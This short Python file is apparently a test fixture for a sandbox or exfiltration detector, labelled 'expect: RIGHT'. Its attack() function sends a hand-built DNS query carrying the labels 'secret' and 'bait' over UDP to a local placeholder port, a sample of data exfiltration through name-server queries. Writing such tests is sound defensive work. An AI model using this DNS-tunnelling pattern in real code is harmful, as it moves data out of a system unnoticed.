# expect: RIGHT
"""Sends what it knows away, without asking for an answer; also in the form of a question to a name server."""

import socket


def attack():
    made = attempt(socket.socket, socket.AF_INET, socket.SOCK_DGRAM)
    question = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\6secret\4bait\0\0\1\0\1"
    if made and attempt(made.sendto, question, ("127.0.0.1", int("__UDP__"))):
        got("sent")
